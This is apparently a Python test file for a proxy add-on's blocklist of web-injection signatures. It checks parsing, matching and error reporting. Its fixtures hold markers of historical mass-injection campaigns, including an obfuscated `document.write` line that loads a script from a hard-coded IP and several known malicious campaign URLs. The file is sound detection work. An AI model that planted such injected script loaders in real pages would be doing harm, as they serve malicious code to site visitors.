"""Injection signatures: the shipped file parses, each signature fires, bad files are refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from proxy_addons.core.errors import ListFormatError
from proxy_addons.core.signatures import Signature, match_signature, parse_signatures

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = (ROOT / "blocklists" / "signatures.toml").read_text()


def test_shipped_signatures_parse_and_are_documented() -> None:
    sigs = parse_signatures(SHIPPED)
    assert [s.name for s in sigs] == ["download-ject", "asprox-nihaorr1", "gumblar", "lizamoon"]
    for sig in sigs:
        assert sig.description and sig.reference.startswith("https://")


@pytest.mark.parametrize(
    ("text", "target", "name"),
    [
        (
            'document.write("<scr"+"ipt src=http://217.107.218.147/dot.php></scr"+"ipt>")',
            "script",
            "download-ject",
        ),
        ("http://217.107.218.147/dot.php", "url", "download-ject"),
        ("http://www.NIHAORR1.com/1.js", "url", "asprox-nihaorr1"),
        ("var s='http://gumblar.cn/rss/?id=2'", "script", "gumblar"),
        ("http://martuz.cn/x", "url", "gumblar"),
        ("http://lizamoon.com/ur.php", "url", "lizamoon"),
        # conservative: near misses do not fire
        ("217.107.218.1470", "script", None),
        ("http://notgumblar.cnx/", "url", None),
        ("document.write(unescape('%3Cscript src=ga.js%3E'))", "script", None),
    ],
)
def test_each_signature_fires_on_its_marker(text: str, target: str, name: str | None) -> None:
    sig = match_signature(parse_signatures(SHIPPED), text, target)
    assert (sig.name if sig else None) == name


BAD = [
    ("[[signature]]\nname = 'a'\n", "line 1: missing 'kind'"),
    (
        "[[signature]]\nname='ok'\nkind='literal'\npattern='x'\ndescription='d'\nreference='r'\n\n"
        "[[signature]]\nname='b'\nkind='regex'\npattern='('\ndescription='d'\nreference='r'\n",
        "line 8: pattern does not compile",
    ),
    (
        "[[signature]]\nname='b'\nkind='glob'\npattern='x'\ndescription='d'\nreference='r'\n",
        "line 1: kind",
    ),
    (
        "[[signature]]\nname='b'\nkind='regex'\npattern='x*'\ndescription='d'\nreference='r'\n",
        "empty string",
    ),
    (
        "[[signature]]\nname='B A D'\nkind='literal'\npattern='x'\ndescription='d'\nreference='r'\n",
        "bad signature name",
    ),
    (
        "[[signature]]\nname='b'\nkind='literal'\npattern='x'\ndescription='d'\nreference='r'\ncolour=1\n",
        "unknown key",
    ),
    (
        "[[signature]]\nname='b'\nkind='literal'\npattern='x'\ndescription='d'\nreference='r'\ntargets=['dom']\n",
        "targets",
    ),
    (
        "[[signature]]\nname='b'\nkind='literal'\npattern='x'\ndescription='d'\nreference='r'\n"
        "[[signature]]\nname='b'\nkind='literal'\npattern='y'\ndescription='d'\nreference='r'\n",
        "line 7: duplicate",
    ),
    ("name = 'x'\n", "unknown top-level"),
    ("[[signature]\n", "not valid TOML"),
]


@pytest.mark.parametrize(("text", "message"), BAD)
def test_bad_files_are_refused_with_line_info(text: str, message: str) -> None:
    with pytest.raises(ListFormatError, match=message.replace("(", r"\(").replace("*", r"\*")):
        parse_signatures(text, source="sig.toml")


def test_signature_is_immutable_and_validated() -> None:
    sig = Signature("x", "literal", "a.b")
    assert sig.search("xxA.Bxx") and not sig.search("aXb")
    with pytest.raises(ValueError):
        Signature("x", "regex", "(?:)")
